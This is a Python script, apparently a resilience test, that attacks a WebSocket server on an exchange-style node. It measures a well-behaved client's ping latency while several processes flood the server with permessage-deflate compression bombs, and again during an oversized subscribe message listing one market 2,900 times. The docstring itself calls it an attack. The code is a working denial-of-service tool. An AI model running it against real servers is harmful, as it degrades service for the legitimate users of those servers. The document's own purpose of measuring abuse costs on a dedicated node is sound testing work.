#!/usr/bin/env python3
"""What abusive WebSocket clients cost the others: a well-behaved client's ping round
trip (median and worst) alone, then while STORM processes each open connection after
connection sending, in one write, 590 compressed messages of 332 bytes that each inflate
to 60 KB; then while one client sends a 64 KiB subscribe naming one channel and one
market 2,900 times each. Plain Python (sockets and zlib), no dependencies.

Usage: ws_abuse.py [--addr 127.0.0.1:9101] [--storm 4] [--seconds 5]
Run it against a node of its own (not one serving anyone): it is an attack.
"""
import argparse, json, multiprocessing, socket, struct, time, zlib


def frame(op, payload, rsv1=False):
    mask = b"\x01\x02\x03\x04"
    n = len(payload)
    b0 = 0x80 | (0x40 if rsv1 else 0) | op
    if n < 126:
        head = bytes([b0, 0x80 | n])
    elif n < 65536:
        head = bytes([b0, 0x80 | 126]) + struct.pack(">H", n)
    else:
        head = bytes([b0, 0x80 | 127]) + struct.pack(">Q", n)
    return head + mask + bytes(c ^ mask[i & 3] for i, c in enumerate(payload))


def deflate(data):
    c = zlib.compressobj(1, zlib.DEFLATED, -15)
    return (c.compress(data) + c.flush(zlib.Z_SYNC_FLUSH))[:-4]


def connect(addr, compress):
    host, port = addr.rsplit(":", 1)
    s = socket.create_connection((host, int(port)))
    s.settimeout(20)
    req = ("GET /ws HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n")
    if compress:
        req += "Sec-WebSocket-Extensions: permessage-deflate\r\n"
    s.sendall((req + "\r\n").encode())
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        b = s.recv(1)
        if not b:
            raise EOFError("closed during the upgrade")
        head += b
    return s


def read_frame(s):
    def exact(n):
        b = b""
        while len(b) < n:
            d = s.recv(n - len(b))
            if not d:
                raise EOFError
            b += d
        return b
    h = exact(2)
    n = h[1] & 0x7F
    if n == 126:
        n = struct.unpack(">H", exact(2))[0]
    elif n == 127:
        n = struct.unpack(">Q", exact(8))[0]
    payload = exact(n)
    if h[0] & 0x40:
        payload = zlib.decompressobj(-15).decompress(payload + b"\x00\x00\xff\xff")
    return h[0] & 0x0F, payload


def probe(addr, seconds, out):
    s = connect(addr, False)
    s.sendall(frame(1, b'{"method":"subscribe","id":0,"params":{"channels":["bbo"],"markets":["BTC-USDT"]}}'))
    read_frame(s), read_frame(s)
    rtts, i, end = [], 0, time.time() + seconds
    while time.time() < end:
        i += 1
        t = time.time()
        s.sendall(frame(1, json.dumps({"method": "ping", "id": i}).encode()))
        while b'"pong"' not in read_frame(s)[1]:
            pass
        rtts.append(time.time() - t)
        time.sleep(0.05)
    rtts.sort()
    out.put((rtts[len(rtts) // 2] * 1000, rtts[-1] * 1000))


def storm(addr, seconds, out):
    text = b'{"method":"ping","id":1,"pad":"' + b"a" * 60000 + b'"}'
    batch = frame(1, deflate(text), rsv1=True) * 590
    n, end = 0, time.time() + seconds
    while time.time() < end:
        s = connect(addr, True)
        try:
            s.sendall(batch)
            while read_frame(s)[0] != 8:
                pass
        except (EOFError, OSError):
            pass
        s.close()
        n += 1
    out.put(n)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--addr", default="127.0.0.1:9101")
    ap.add_argument("--storm", type=int, default=4)
    ap.add_argument("--seconds", type=float, default=5)
    a = ap.parse_args()
    q = multiprocessing.Queue()
    probe(a.addr, a.seconds, q)
    print("alone: ping median %.1f ms, worst %.1f ms" % q.get())
    p = multiprocessing.Process(target=probe, args=(a.addr, a.seconds + 1, q))
    p.start()
    time.sleep(0.5)
    storms = [multiprocessing.Process(target=storm, args=(a.addr, a.seconds, q))
              for _ in range(a.storm)]
    for w in storms:
        w.start()
    for w in storms:
        w.join()
    p.join()
    results = [q.get() for _ in range(a.storm + 1)]
    latency = next(r for r in results if isinstance(r, tuple))
    batches = sum(r for r in results if not isinstance(r, tuple))
    print("compression bombs from %d processes (%d connections): ping median %.1f ms, "
          "worst %.1f ms" % (a.storm, batches, *latency))
    p = multiprocessing.Process(target=probe, args=(a.addr, 3, q))
    p.start()
    time.sleep(0.5)
    s = connect(a.addr, False)
    many = json.dumps({"method": "subscribe", "id": 1, "params": {
        "channels": ["bbo"] * 2900, "markets": ["BTC-USDT"] * 2900}}).encode()
    t = time.time()
    s.sendall(frame(1, many))
    reply = read_frame(s)[1]
    took = time.time() - t
    p.join()
    print("a 64 KiB subscribe naming one pair 2,900 times: answered in %.3f s (%s); "
          "ping median %.1f ms, worst %.1f ms" % ((took, reply[:60].decode()) + q.get()))


if __name__ == "__main__":
    main()
